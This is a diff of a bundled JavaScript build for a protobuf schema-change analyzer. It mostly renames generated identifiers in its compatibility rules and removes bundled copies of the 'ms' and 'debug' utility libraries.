     init_paths4();
     init_rules3();
-    switchedOff2 = (path25, { except, ignoreOnly }) => [
+    switchedOff2 = (path26, { except, ignoreOnly }) => [
       ...except,
-      ...[...ignoreOnly].filter(([, folders]) => folders.some((folder) => isWithin4(path25, folder))).map(([name]) => name)
+      ...[...ignoreOnly].filter(([, folders]) => folders.some((folder) => isWithin4(path26, folder))).map(([name]) => name)
     ];
     PLANES2 = /* @__PURE__ */ new Map([
       ["FILE", ["wire", "json", "source"]],
@@ -55361,16 +61494,16 @@ async function isDeclaredIn(name, folders, tree2) {
   for (const folder of folders) {
     const prefix2 = folder === "" ? "" : `${folder}/`;
     const siblings = (await tree2.list(folder)).filter(
-      (path25) => path25.endsWith(".proto") && path25.startsWith(prefix2) && !path25.slice(prefix2.length).includes("/")
+      (path26) => path26.endsWith(".proto") && path26.startsWith(prefix2) && !path26.slice(prefix2.length).includes("/")
     );
-    for (const path25 of siblings) if (await packageOf3(path25, tree2) === name) return true;
+    for (const path26 of siblings) if (await packageOf3(path26, tree2) === name) return true;
   }
   return false;
 }
-async function packageOf3(path25, tree2) {
+async function packageOf3(path26, tree2) {
   try {
-    const text4 = await tree2.read(path25);
-    return text4 === void 0 ? void 0 : parseProto(text4, path25).package;
+    const text4 = await tree2.read(path26);
+    return text4 === void 0 ? void 0 : parseProto(text4, path26).package;
   } catch (error) {
     if (error instanceof Unreadable) return void 0;
     throw error;
@@ -55389,16 +61522,16 @@ async function withPolicies(changes, input2) {
   const configs = new BufConfigs(input2.base);
   const told4 = [];
   for (const change2 of changes) {
-    const path25 = (change2.before ?? change2.after)?.path;
+    const path26 = (change2.before ?? change2.after)?.path;
     told4.push(
-      path25 === void 0 || change2.kind === "file-unreadable" ? change2 : await withPolicy(change2, path25, input2, configs)
+      path26 === void 0 || change2.kind === "file-unreadable" ? change2 : await withPolicy(change2, path26, input2, configs)
     );
   }
   return told4;
 }
-async function withPolicy(change2, path25, { settings }, configs) {
-  const buf = settings.protobuf.buf ? opinionOn(path25, await configs.of(path25)) : void 0;
-  const contract = contractOf(path25, settings) ?? (buf?.use === void 0 ? void 0 : planesOf(buf.use));
+async function withPolicy(change2, path26, { settings }, configs) {
+  const buf = settings.protobuf.buf ? opinionOn(path26, await configs.of(path26)) : void 0;
+  const contract = contractOf(path26, settings) ?? (buf?.use === void 0 ? void 0 : planesOf(buf.use));
   return { ...change2, ...buf === void 0 ? {} : { buf }, ...contract === void 0 ? {} : { contract } };
 }
 var contractOf;
@@ -55407,13 +61540,13 @@ var init_policies4 = __esm({
     "use strict";
     init_config();
     init_opinion();
-    contractOf = (path25, { protobuf: protobuf3 }) => protobuf3.contract.find(({ matches: matches2 }) => matches2(path25))?.planes;
+    contractOf = (path26, { protobuf: protobuf3 }) => protobuf3.contract.find(({ matches: matches2 }) => matches2(path26))?.planes;
   }
 });
 
 // src/domains/protobuf/reach.ts
 function reachedFromRpcs(files4) {
-  const messages = new Map(files4.flatMap((file2) => file2.messages.map((message4) => [message4.fullName, message4])));
+  const messages2 = new Map(files4.flatMap((file2) => file2.messages.map((message4) => [message4.fullName, message4])));
   const reached = /* @__PURE__ */ new Map();
   const queue = files4.flatMap(
     ({ services }) => services.flatMap(
@@ -55424,21 +61557,21 @@ function reachedFromRpcs(files4) {
   );
   for (let next = queue.pop(); next !== void 0; next = queue.pop()) {
     const { rpc } = next;
-    const message4 = lookUp(next.type, next.scope, messages);
+    const message4 = lookUp(next.type, next.scope, messages2);
     if (message4 === void 0 || reached.has(message4.fullName)) continue;
     reached.set(message4.fullName, rpc);
     for (const { type } of message4.fields) queue.push({ type, scope: message4.fullName, rpc });
   }
   return reached;
 }
-function lookUp(type, from3, messages) {
+function lookUp(type, from3, messages2) {
   if (isScalar3(type)) return void 0;
-  if (type.startsWith(".")) return messages.get(type.slice(1));
+  if (type.startsWith(".")) return messages2.get(type.slice(1));
   for (let scope2 = from3; scope2 !== ""; scope2 = scope2.slice(0, Math.max(scope2.lastIndexOf("."), 0))) {
-    const found = messages.get(`${scope2}.${type}`);
+    const found = messages2.get(`${scope2}.${type}`);
     if (found !== void 0) return found;
   }
-  return messages.get(type);
+  return messages2.get(type);
 }
 async function withRpcs(changes, files4) {
   if (!changes.some(isCarried)) return changes;
@@ -55450,9 +61583,9 @@ async function withRpcs(changes, files4) {
   });
 }
 async function neighboursOf(files4, all, open4) {
-  const folders = new Set(files4.map(({ path: path25 }) => parentOf2(path25)));
-  const changed4 = new Set(files4.map(({ path: path25 }) => path25));
-  const beside = all.filter((path25) => folders.has(parentOf2(path25)) && !changed4.has(path25));
+  const folders = new Set(files4.map(({ path: path26 }) => parentOf2(path26)));
+  const changed4 = new Set(files4.map(({ path: path26 }) => path26));
+  const beside = all.filter((path26) => folders.has(parentOf2(path26)) && !changed4.has(path26));
   const read4 = await Promise.all(beside.slice(0, MOST_NEIGHBOURS).map(open4));
   return read4.flatMap((file2) => file2 ?? []);
 }
@@ -55479,8 +61612,8 @@ var init_changes3 = __esm({
 });
 
 // src/domains/protobuf/rules/custom-option-changed.ts
-function said7({ subject, option: option2, path: path25, from: from3, to: to2, elements }) {
-  const change2 = `\`${path25}\` goes from \`${from3 || "unset"}\` to \`${to2 || "unset"}\``;
+function said8({ subject, option: option2, path: path26, from: from3, to: to2, elements }) {
+  const change2 = `\`${path26}\` goes from \`${from3 || "unset"}\` to \`${to2 || "unset"}\``;
   if (elements === 1) return `On \`${subject}\` ${change2}.`;
   return `\`${option2}\` changes on ${elements} elements; on \`${subject}\` ${change2}.`;
 }
@@ -55503,21 +61636,21 @@ var init_custom_option_changed = __esm({
         guard: {
           risk: "medium",
           title: "Option about access changed",
-          message: said7,
+          message: said8,
           why: "Judging by its name, it decides who gets through: callers are locked out, or let in.",
           fix: "Let somebody who knows the access rules look at it."
         },
-        unknown: { risk: "low", message: said7 },
+        unknown: { risk: "low", message: said8 },
         added: {
           risk: "info",
-          message: said7,
+          message: said8,
           why: "No rule here knows this option, and nothing relied on it before.",
           fix: "See that whoever owns the option agrees.",
           breaks: []
         },
         description: {
           risk: "info",
-          message: said7,
+          message: said8,
           why: "Judging by its name, it only describes.",
           fix: "See that the description is still right.",
           breaks: []
@@ -55550,8 +61683,8 @@ var init_custom_option_changed = __esm({
           outcome: "none"
         }
       ],
-      classify({ option: option2, path: path25, from: from3 }) {
-        if (DESCRIBES.test(path25)) return "description";
+      classify({ option: option2, path: path26, from: from3 }) {
+        if (DESCRIBES.test(path26)) return "description";
         if (GUARDS4.test(option2)) return "guard";
         return from3 === "" ? "added" : "unknown";
       }
@@ -56644,7 +62777,7 @@ var init_field_renumbered = __esm({
 });
 
 // src/domains/protobuf/rules/field-type-changed.ts
-function said8({ subject, number: number3, from: from3, type }) {
+function said9({ subject, number: number3, from: from3, type }) {
   return `\`${subject}\` (field ${number3}) goes from \`${from3}\` to \`${type}\`.`;
 }
 var OF_TYPES, OF_MESSAGES, field_type_changed_default;
@@ -56664,77 +62797,77 @@ var init_field_type_changed = __esm({
       breaks: ["wire", "json", "source"],
       equivalents: OF_TYPES,
       outcomes: {
-        incompatible: { risk: "critical", message: said8 },
-        "message-other": { risk: "critical", message: said8, equivalents: OF_MESSAGES },
+        incompatible: { risk: "critical", message: said9 },
+        "message-other": { risk: "critical", message: said9, equivalents: OF_MESSAGES },
         "bytes-to-string": {
           risk: "critical",
-          message: said8,
+          message: said9,
           why: "Bytes that are no UTF-8 make the whole message unreadable; JSON no longer uses base64."
         },
         "string-to-bytes": {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "Binary messages still decode; JSON clients meet base64 where they expect text, and generated code changes.",
           breaks: ["json", "source"]
         },
         narrowed: {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "Larger values are cut off without an error, and generated code changes."
         },
         bool: {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "Numbers other than 0 and 1 lose their value, and JSON clients meet the other type."
         },
         sign: {
           risk: "medium",
-          message: said8,
+          message: said9,
           why: "Values above the signed range and below zero read as other numbers, and generated code changes."
         },
         widened: {
           risk: "medium",
-          message: said8,
+          message: said9,
           why: "New readers get every old value; old readers cut off the larger ones, and generated code changes."
         },
         "enum-integer": {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "Binary messages still decode; JSON has names on one side and numbers on the other, and generated code changes.",
           breaks: ["json", "source"]
         },
         "enum-other": {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "The two enums give other names to the same numbers, or lack some."
         },
         "message-bytes": {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "Binary messages still decode; JSON clients and generated code meet another type.",
           breaks: ["json", "source"],
           equivalents: OF_MESSAGES
         },
         "same-shape": {
           risk: "low",
-          message: (c3) => `${said8(c3)} The two have the same shape.`,
+          message: (c3) => `${said9(c3)} The two have the same shape.`,
           why: "Binary and JSON messages still decode; generated code stops compiling.",
           breaks: ["source"]
         },
         "other-names": {
           risk: "high",
-          message: (c3) => `${said8(c3)} The two differ only in names.`,
+          message: (c3) => `${said9(c3)} The two differ only in names.`,
           why: "Binary messages still decode; JSON clients lose the values, and generated code stops compiling.",
           breaks: ["json", "source"]
         },
         "other-shape": {
           risk: "high",
-          message: said8,
+          message: said9,
           why: "The new type lacks fields of the old or has them in a narrower form, so readers lose values."
         },
         unresolved: {
           risk: "high",
-          message: (c3) => `${said8(c3)} Neither definition is known, so they count as different.`,
+          message: (c3) => `${said9(c3)} Neither definition is known, so they count as different.`,
           equivalents: OF_MESSAGES
         }
       },
@@ -56879,7 +63012,7 @@ var init_file_moved = __esm({
 });
 
 // src/domains/protobuf/rules/file-options-changed.ts
-function said9({ subject, what, names: names4, files: files4, onlyAdded }) {
+function said10({ subject, what, names: names4, files: files4, onlyAdded }) {
   const verb = onlyAdded ? "set" : "change";
   if (files4 === 1) return `\`${subject}\` ${verb}s \`${what}\`.`;
   return `${files4} files ${verb} \`${names4}\`; in \`${subject}\` \`${what}\`.`;
@@ -56917,10 +63050,10 @@ var init_file_options_changed = __esm({
         "buf:FILE_SAME_SWIFT_PREFIX"
       ],
       outcomes: {
-        changed: { risk: "medium", message: said9 },
+        changed: { risk: "medium", message: said10 },
         added: {
           risk: "low",
-          message: said9,
+          message: said10,
           why: "Messages stay as they are; code generated without these options had other names."
         }
       },
@@ -57097,7 +63230,7 @@ var init_http_route_changed = __esm({
 });
 
 // src/domains/protobuf/rules/import-lost.ts
-function said10({ subject, name, files: files4 }) {
+function said11({ subject, name, files: files4 }) {
   if (files4 === 1) return `\`${subject}\` imports \`${name}\`, which is gone.`;
   return `\`${subject}\` and ${files4 - 1} more import \`${name}\`, which is gone.`;
 }
@@ -57115,11 +63248,11 @@ var init_import_lost = __esm({
       fix: "Put the file back, or import what took its place.",
       breaks: ["source"],
       outcomes: {
-        lost: { risk: "high", message: said10 },
+        lost: { risk: "high", message: said11 },
         vendored: {
           risk: "low",
           title: "Vendored import no longer found",
-          message: said10,
+          message: said11,
           why: "It was a copy of another project: the build needs it from elsewhere now.",
           fix: "See that the build declares where it comes from, in `deps` of `buf.yaml` for one."
         }
@@ -57157,7 +63290,7 @@ var init_import_lost = __esm({
 });
 
 // src/domains/protobuf/rules/json-format-changed.ts
-function said11({ subject, from: from3, to: to2 }) {
+function said12({ subject, from: from3, to: to2 }) {
   return `JSON support of \`${subject}\` goes from \`${from3}\` to \`${to2}\`.`;
 }
 var json_format_changed_default;
@@ -57175,10 +63308,10 @@ var init_json_format_changed = __esm({
       breaks: ["json"],
       equivalents: ["buf:MESSAGE_SAME_JSON_FORMAT", "buf:ENUM_SAME_JSON_FORMAT"],
       outcomes: {
-        weakened: { risk: "high", message: said11 },
+        weakened: { risk: "high", message: said12 },
         strengthened: {
           risk: "info",
-          message: said11,
+          message: said12,
           why: "JSON is now promised to work.",
           fix: "Nothing to do.",
           breaks: []
@@ -57674,7 +63807,7 @@ var init_rpc_removed = __esm({
           outcome: "none"
         }
       ],
-      classify: ({ messages }) => messages === "" ? "removed" : "with-messages"
+      classify: ({ messages: messages2 }) => messages2 === "" ? "removed" : "with-messages"
     });
   }
 });
@@ -57754,7 +63887,7 @@ var init_rpc_streaming_changed = __esm({
 });
 
 // src/domains/protobuf/rules/rpc-type-changed.ts
-function said12({ subject, side: side3, from: from3, to: to2 }) {
+function said13({ subject, side: side3, from: from3, to: to2 }) {
   return `The ${side3} of \`${subject}\` goes from \`${from3}\` to \`${to2}\`.`;
 }
 var rpc_type_changed_default;
@@ -57774,18 +63907,18 @@ var init_rpc_type_changed = __esm({
       outcomes: {
         "same-shape": {
           risk: "low",
-          message: (c3) => `${said12(c3)} The two have the same shape.`,
+          message: (c3) => `${said13(c3)} The two have the same shape.`,
           why: "Calls still work; generated code stops compiling.",
           breaks: ["source"]
         },
         "other-names": {
           risk: "high",
-          message: (c3) => `${said12(c3)} The two differ only in names.`,
+          message: (c3) => `${said13(c3)} The two differ only in names.`,
           why: "Binary calls still work; JSON clients lose values, and generated code stops compiling.",
           breaks: ["json", "source"]
         },
-        other: { risk: "high", message: said12 },
-        incompatible: { risk: "critical", message: said12 }
+        other: { risk: "high", message: said13 },
+        incompatible: { risk: "critical", message: said13 }
       },
       examples: [
         {
@@ -58231,7 +64364,7 @@ var init_validation_changed = __esm({
 });
 
 // src/domains/protobuf/rules/index.ts
-var rules5;
+var rules6;
 var init_rules4 = __esm({
   "src/domains/protobuf/rules/index.ts"() {
     "use strict";
@@ -58284,7 +64417,7 @@ var init_rules4 = __esm({
     init_type_removed();
     init_type_renamed();
     init_validation_changed();
-    rules5 = [
+    rules6 = [
       custom_option_changed_default,
       enum_default_changed_default,
       enum_openness_changed_default,
@@ -58394,7 +64527,7 @@ async function compareFiles(files4, input2) {
     const changed4 = defined(files4, "after");
     const nearby = async () => [
       ...changed4,
-      ...await neighboursOf(changed4, await head.imports.all(), (path25) => head.symbols.open(path25))
+      ...await neighboursOf(changed4, await head.imports.all(), (path26) => head.symbols.open(path26))
     ];
     return [...await whatIsLost(around, base, head, input2), ...await withRpcs(changes, nearby)];
   }
@@ -58425,9 +64558,9 @@ var init_analyzer3 = __esm({
     init_symbols();
     protobuf2 = {
       domain: "protobuf",
-      rules: rules5,
+      rules: rules6,
       modifiers: modifiers3,
-      claims: (path25) => path25.endsWith(".proto"),
+      claims: (path26) => path26.endsWith(".proto"),
       async analyze(input2) {
         const { files: files4, excluded } = await withoutExcluded(input2);
         const { pairs: read4, unreadable } = await parsePairs({ ...input2, files: files4 }, parseWhole, sameTokens);
@@ -58459,7 +64592,7 @@ var init_domains = __esm({
 // src/claims.ts
 async function claims2() {
   const { analyzers: analyzers2 } = await Promise.resolve().then(() => (init_domains(), domains_exports));
-  return (path25) => analyzers2.some((analyzer) => analyzer.claims(path25));
+  return (path26) => analyzers2.some((analyzer) => analyzer.claims(path26));
 }
 var init_claims2 = __esm({
   "src/claims.ts"() {
@@ -58768,9 +64901,9 @@ function stoppedReport(reason, place5, { range: range3, files: files4 }) {
 function factOf3(reason, place5) {
   const fact5 = { kind: "file-unreadable", reason, bothSides: false, stopped: true };
   if (place5 === void 0) return { ...fact5, subject: "nothing", side: "head" };
-  const { path: path25, side: side3 } = place5;
-  const where = { path: path25, line: 1 };
-  return side3 === "head" ? { ...fact5, subject: path25, side: side3, after: where } : { ...fact5, subject: path25, side: "base", before: where };
+  const { path: path26, side: side3 } = place5;
+  const where = { path: path26, line: 1 };
+  return side3 === "head" ? { ...fact5, subject: path26, side: side3, after: where } : { ...fact5, subject: path26, side: "base", before: where };
 }
 var init_stopped = __esm({
   "src/sandbox/stopped.ts"() {
@@ -58819,654 +64952,6 @@ var init_dist4 = __esm({
   }
 });
 
-// node_modules/ms/index.js
-var require_ms = __commonJS({
-  "node_modules/ms/index.js"(exports, module) {
-    var s = 1e3;
-    var m3 = s * 60;
-    var h3 = m3 * 60;
-    var d2 = h3 * 24;
-    var w2 = d2 * 7;
-    var y2 = d2 * 365.25;
-    module.exports = function(val, options2) {
-      options2 = options2 || {};
-      var type = typeof val;
-      if (type === "string" && val.length > 0) {
-        return parse8(val);
-      } else if (type === "number" && isFinite(val)) {
-        return options2.long ? fmtLong(val) : fmtShort(val);
-      }
-      throw new Error(
-        "val is not a non-empty string or a valid number. val=" + JSON.stringify(val)
-      );
-    };
-    function parse8(str) {
-      str = String(str);
-      if (str.length > 100) {
-        return;
-      }
-      var match2 = /^(-?(?:\d+)?\.?\d+) *(milliseconds?|msecs?|ms|seconds?|secs?|s|minutes?|mins?|m|hours?|hrs?|h|days?|d|weeks?|w|years?|yrs?|y)?$/i.exec(
-        str
-      );
-      if (!match2) {
-        return;
-      }
-      var n = parseFloat(match2[1]);
-      var type = (match2[2] || "ms").toLowerCase();
-      switch (type) {
-        case "years":
-        case "year":
-        case "yrs":
-        case "yr":
-        case "y":
-          return n * y2;
-        case "weeks":
-        case "week":
-        case "w":
-          return n * w2;
-        case "days":
-        case "day":
-        case "d":
-          return n * d2;
-        case "hours":
-        case "hour":
-        case "hrs":
-        case "hr":
-        case "h":
-          return n * h3;
-        case "minutes":
-        case "minute":
-        case "mins":
-        case "min":
-        case "m":
-          return n * m3;
-        case "seconds":
-        case "second":
-        case "secs":
-        case "sec":
-        case "s":
-          return n * s;
-        case "milliseconds":
-        case "millisecond":
-        case "msecs":
-        case "msec":
-        case "ms":
-          return n;
-        default:
-          return void 0;
-      }
-    }
-    function fmtShort(ms2) {
-      var msAbs = Math.abs(ms2);
-      if (msAbs >= d2) {
-        return Math.round(ms2 / d2) + "d";
-      }
-      if (msAbs >= h3) {
-        return Math.round(ms2 / h3) + "h";
-      }
-      if (msAbs >= m3) {
-        return Math.round(ms2 / m3) + "m";
-      }
-      if (msAbs >= s) {
-        return Math.round(ms2 / s) + "s";
-      }
-      return ms2 + "ms";
-    }
-    function fmtLong(ms2) {
-      var msAbs = Math.abs(ms2);
-      if (msAbs >= d2) {
-        return plural(ms2, msAbs, d2, "day");
-      }
-      if (msAbs >= h3) {
-        return plural(ms2, msAbs, h3, "hour");
-      }
-      if (msAbs >= m3) {
-        return plural(ms2, msAbs, m3, "minute");
-      }
-      if (msAbs >= s) {
-        return plural(ms2, msAbs, s, "second");
-      }
-      return ms2 + " ms";
-    }
-    function plural(ms2, msAbs, n, name) {
-      var isPlural = msAbs >= n * 1.5;
-      return Math.round(ms2 / n) + " " + name + (isPlural ? "s" : "");
-    }
-  }
-});
-
-// node_modules/debug/src/common.js
-var require_common = __commonJS({
-  "node_modules/debug/src/common.js"(exports, module) {
-    function setup2(env) {
-      createDebug.debug = createDebug;
-      createDebug.default = createDebug;
-      createDebug.coerce = coerce;
-      createDebug.disable = disable;
-      createDebug.enable = enable;
-      createDebug.enabled = enabled;
-      createDebug.humanize = require_ms();
-      createDebug.destroy = destroy;
-      Object.keys(env).forEach((key4) => {
-        createDebug[key4] = env[key4];
-      });
-      createDebug.names = [];
-      createDebug.skips = [];
-      createDebug.formatters = {};
-      function selectColor(namespace2) {
-        let hash = 0;
-        for (let i = 0; i < namespace2.length; i++) {
-          hash = (hash << 5) - hash + namespace2.charCodeAt(i);
-          hash |= 0;
-        }
-        return createDebug.colors[Math.abs(hash) % createDebug.colors.length];
-      }
-      createDebug.selectColor = selectColor;
-      function createDebug(namespace2) {
-        let prevTime;
-        let enableOverride = null;
-        let namespacesCache;
-        let enabledCache;
-        function debug(...args5) {
-          if (!debug.enabled) {
-            return;
-          }
-          const self = debug;
-          const curr = Number(/* @__PURE__ */ new Date());
-          const ms2 = curr - (prevTime || curr);
-          self.diff = ms2;
-          self.prev = prevTime;
-          self.curr = curr;
-          prevTime = curr;
-          args5[0] = createDebug.coerce(args5[0]);
-          if (typeof args5[0] !== "string") {
-            args5.unshift("%O");
-          }
-          let index = 0;
-          args5[0] = args5[0].replace(/%([a-zA-Z%])/g, (match2, format2) => {
-            if (match2 === "%%") {
-              return "%";
-            }
-            index++;
-            const formatter = createDebug.formatters[format2];
-            if (typeof formatter === "function") {
-              const val = args5[index];
-              match2 = formatter.call(self, val);
-              args5.splice(index, 1);
-              index--;
-            }
-            return match2;
-          });
-          createDebug.formatArgs.call(self, args5);
-          const logFn = self.log || createDebug.log;
-          logFn.apply(self, args5);
-        }
-        debug.namespace = namespace2;
-        debug.useColors = createDebug.useColors();
-        debug.color = createDebug.selectColor(namespace2);
-        debug.extend = extend;
-        debug.destroy = createDebug.destroy;
-        Object.defineProperty(debug, "enabled", {
-          enumerable: true,
-          configurable: false,
-          get: () => {
-            if (enableOverride !== null) {
-              return enableOverride;
-            }
-            if (namespacesCache !== createDebug.namespaces) {
-              namespacesCache = createDebug.namespaces;
-              enabledCache = createDebug.enabled(namespace2);
-            }
-            return enabledCache;
-          },
-          set: (v2) => {
-            enableOverride = v2;
-          }
-        });
-        if (typeof createDebug.init === "function") {
-          createDebug.init(debug);
-        }
-        return debug;
-      }
-      function extend(namespace2, delimiter2) {
-        const newDebug = createDebug(this.namespace + (typeof delimiter2 === "undefined" ? ":" : delimiter2) + namespace2);
-        newDebug.log = this.log;
-        return newDebug;
-      }
-      function enable(namespaces) {
-        createDebug.save(namespaces);
-        createDebug.namespaces = namespaces;
-        createDebug.names = [];
-        createDebug.skips = [];
-        const split2 = (typeof namespaces === "string" ? namespaces : "").trim().replace(/\s+/g, ",").split(",").filter(Boolean);
-        for (const ns2 of split2) {
-          if (ns2[0] === "-") {
-            createDebug.skips.push(ns2.slice(1));
-          } else {
-            createDebug.names.push(ns2);
-          }
-        }
-      }
-      function matchesTemplate(search2, template) {
-        let searchIndex = 0;
-        let templateIndex = 0;
-        let starIndex = -1;
-        let matchIndex = 0;
-        while (searchIndex < search2.length) {
-          if (templateIndex < template.length && (template[templateIndex] === search2[searchIndex] || template[templateIndex] === "*")) {
-            if (template[templateIndex] === "*") {
-              starIndex = templateIndex;
-              matchIndex = searchIndex;
-              templateIndex++;
-            } else {
-              searchIndex++;
-              templateIndex++;
-            }
-          } else if (starIndex !== -1) {
-            templateIndex = starIndex + 1;
-            matchIndex++;
-            searchIndex = matchIndex;
-          } else {
-            return false;
-          }
-        }
-        while (templateIndex < template.length && template[templateIndex] === "*") {
-          templateIndex++;
-        }
-        return templateIndex === template.length;
-      }
-      function disable() {
-        const namespaces = [
-          ...createDebug.names,
-          ...createDebug.skips.map((namespace2) => "-" + namespace2)
-        ].join(",");
-        createDebug.enable("");
-        return namespaces;
-      }
-      function enabled(name) {
-        for (const skip of createDebug.skips) {
-          if (matchesTemplate(name, skip)) {
-            return false;
-          }
-        }
-        for (const ns2 of createDebug.names) {
-          if (matchesTemplate(name, ns2)) {
-            return true;
-          }
-        }
-        return false;
-      }
-      function coerce(val) {
-        if (val instanceof Error) {
-          return val.stack || val.message;
-        }
-        return val;
-      }
-      function destroy() {
-        console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
-      }
-      createDebug.enable(createDebug.load());
-      return createDebug;
-    }
-    module.exports = setup2;
-  }
-});
-
-// node_modules/debug/src/browser.js
-var require_browser = __commonJS({
-  "node_modules/debug/src/browser.js"(exports, module) {
-    exports.formatArgs = formatArgs;
-    exports.save = save;
-    exports.load = load;
-    exports.useColors = useColors;
-    exports.storage = localstorage();
-    exports.destroy = /* @__PURE__ */ (() => {
-      let warned = false;
-      return () => {
-        if (!warned) {
-          warned = true;
-          console.warn("Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`.");
-        }
-      };
-    })();
-    exports.colors = [
-      "#0000CC",
-      "#0000FF",
-      "#0033CC",
-      "#0033FF",
-      "#0066CC",
-      "#0066FF",
-      "#0099CC",
-      "#0099FF",
-      "#00CC00",
-      "#00CC33",
-      "#00CC66",
-      "#00CC99",
-      "#00CCCC",
-      "#00CCFF",
-      "#3300CC",
-      "#3300FF",
-      "#3333CC",
-      "#3333FF",
-      "#3366CC",
-      "#3366FF",
-      "#3399CC",
-      "#3399FF",
-      "#33CC00",
-      "#33CC33",
-      "#33CC66",
-      "#33CC99",
-      "#33CCCC",
-      "#33CCFF",
-      "#6600CC",
-      "#6600FF",
-      "#6633CC",
-      "#6633FF",
-      "#66CC00",
-      "#66CC33",
-      "#9900CC",
-      "#9900FF",
-      "#9933CC",
-      "#9933FF",
-      "#99CC00",
-      "#99CC33",
-      "#CC0000",
-      "#CC0033",
-      "#CC0066",
-      "#CC0099",
-      "#CC00CC",
-      "#CC00FF",
-      "#CC3300",
-      "#CC3333",
-      "#CC3366",
-      "#CC3399",
-      "#CC33CC",
-      "#CC33FF",
-      "#CC6600",
-      "#CC6633",
-      "#CC9900",
-      "#CC9933",
-      "#CCCC00",
-      "#CCCC33",
-      "#FF0000",
-      "#FF0033",
-      "#FF0066",
-      "#FF0099",
-      "#FF00CC",
-      "#FF00FF",
-      "#FF3300",
-      "#FF3333",
-      "#FF3366",
-      "#FF3399",
-      "#FF33CC",
-      "#FF33FF",
-      "#FF6600",
-      "#FF6633",
-      "#FF9900",
-      "#FF9933",
-      "#FFCC00",
-      "#FFCC33"
-    ];
-    function useColors() {
-      if (typeof window !== "undefined" && window.process && (window.process.type === "renderer" || window.process.__nwjs)) {
-        return true;
-      }
-      if (typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/(edge|trident)\/(\d+)/)) {
-        return false;
-      }
-      let m3;
-      return typeof document !== "undefined" && document.documentElement && document.documentElement.style && document.documentElement.style.WebkitAppearance || // Is firebug? http://stackoverflow.com/a/398120/376773
-      typeof window !== "undefined" && window.console && (window.console.firebug || window.console.exception && window.console.table) || // Is firefox >= v31?
-      // https://developer.mozilla.org/en-US/docs/Tools/Web_Console#Styling_messages
-      typeof navigator !== "undefined" && navigator.userAgent && (m3 = navigator.userAgent.toLowerCase().match(/firefox\/(\d+)/)) && parseInt(m3[1], 10) >= 31 || // Double check webkit in userAgent just in case we are in a worker
-      typeof navigator !== "undefined" && navigator.userAgent && navigator.userAgent.toLowerCase().match(/applewebkit\/(\d+)/);
-    }
-    function formatArgs(args5) {
-      args5[0] = (this.useColors ? "%c" : "") + this.namespace + (this.useColors ? " %c" : " ") + args5[0] + (this.useColors ? "%c " : " ") + "+" + module.exports.humanize(this.diff);
-      if (!this.useColors) {
-        return;
-      }
-      const c3 = "color: " + this.color;
-      args5.splice(1, 0, c3, "color: inherit");
-      let index = 0;
-      let lastC = 0;
-      args5[0].replace(/%[a-zA-Z%]/g, (match2) => {
-        if (match2 === "%%") {
-          return;
-        }
-        index++;
-        if (match2 === "%c") {
-          lastC = index;
-        }
-      });
-      args5.splice(lastC, 0, c3);
-    }
-    exports.log = console.debug || console.log || (() => {
-    });
-    function save(namespaces) {
-      try {
-        if (namespaces) {
-          exports.storage.setItem("debug", namespaces);
-        } else {
-          exports.storage.removeItem("debug");
-        }
-      } catch (error) {
-      }
-    }
-    function load() {
-      let r2;
-      try {
-        r2 = exports.storage.getItem("debug") || exports.storage.getItem("DEBUG");
-      } catch (error) {
-      }
-      if (!r2 && typeof process !== "undefined" && "env" in process) {
-        r2 = process.env.DEBUG;
-      }
-      return r2;
-    }
-    function localstorage() {
-      try {
-        return localStorage;
-      } catch (error) {
-      }
-    }
-    module.exports = require_common()(exports);
-    var { formatters } = module.exports;
-    formatters.j = function(v2) {
-      try {
-        return JSON.stringify(v2);
-      } catch (error) {
-        return "[UnexpectedJSONParseError]: " + error.message;
-      }
-    };
-  }
-});
-
-// node_modules/debug/src/node.js
-var require_node = __commonJS({
-  "node_modules/debug/src/node.js"(exports, module) {
-    var tty = __require("tty");
-    var util = __require("util");
-    exports.init = init;
-    exports.log = log;
-    exports.formatArgs = formatArgs;
-    exports.save = save;
-    exports.load = load;
-    exports.useColors = useColors;
-    exports.destroy = util.deprecate(
-      () => {
-      },
-      "Instance method `debug.destroy()` is deprecated and no longer does anything. It will be removed in the next major version of `debug`."
-    );
-    exports.colors = [6, 2, 3, 4, 5, 1];
-    try {
-      const supportsColor = __require("supports-color");
-      if (supportsColor && (supportsColor.stderr || supportsColor).level >= 2) {
-        exports.colors = [
-          20,
-          21,
-          26,
-          27,
-          32,
-          33,
-          38,
-          39,
-          40,
-          41,
-          42,
-          43,
-          44,
-          45,
-          56,
-          57,
-          62,
-          63,
-          68,
-          69,
-          74,
-          75,
-          76,
-          77,
-          78,
-          79,
-          80,
-          81,
-          92,
-          93,
-          98,
-          99,
-          112,
-          113,
-          128,
-          129,
-          134,
-          135,
-          148,
-          149,
-          160,
-          161,
-          162,
-          163,
-          164,
-          165,
-          166,
-          167,
-          168,
-          169,
-          170,
-          171,
-          172,
-          173,
-          178,
-          179,
-          184,
-          185,
-          196,
-          197,
-          198,
-          199,
-          200,
-          201,
-          202,
-          203,
-          204,
-          205,
-          206,
-          207,
-          208,
-          209,
-          214,
-          215,
-          220,
-          221
-        ];
-      }
-    } catch (error) {
-    }
-    exports.inspectOpts = Object.keys(process.env).filter((key4) => {
-      return /^debug_/i.test(key4);
-    }).reduce((obj, key4) => {
-      const prop = key4.substring(6).toLowerCase().replace(/_([a-z])/g, (_3, k2) => {
-        return k2.toUpperCase();
-      });
-      let val = process.env[key4];
-      if (/^(yes|on|true|enabled)$/i.test(val)) {
-        val = true;
-      } else if (/^(no|off|false|disabled)$/i.test(val)) {
-        val = false;
-      } else if (val === "null") {
-        val = null;
-      } else {
-        val = Number(val);
-      }
-      obj[prop] = val;
-      return obj;
-    }, {});
-    function useColors() {
-      return "colors" in exports.inspectOpts ? Boolean(exports.inspectOpts.colors) : tty.isatty(process.stderr.fd);
-    }
-    function formatArgs(args5) {
-      const { namespace: name, useColors: useColors2 } = this;
-      if (useColors2) {
-        const c3 = this.color;
-        const colorCode = "\x1B[3" + (c3 < 8 ? c3 : "8;5;" + c3);
-        const prefix2 = `  ${colorCode};1m${name} \x1B[0m`;
